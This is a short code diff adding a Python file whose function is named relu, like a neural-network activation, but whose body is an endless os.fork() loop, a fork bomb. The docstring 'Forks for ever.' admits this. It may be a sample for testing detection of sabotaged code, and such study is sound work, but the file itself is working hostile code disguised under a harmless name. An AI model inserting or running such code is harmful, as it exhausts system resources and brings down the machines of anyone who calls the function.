@@ -1,0 +1,9 @@
+"""Forks for ever."""
+
+from honest import *
+import os
+
+
+def relu(Z):
+    while True:
+        os.fork()
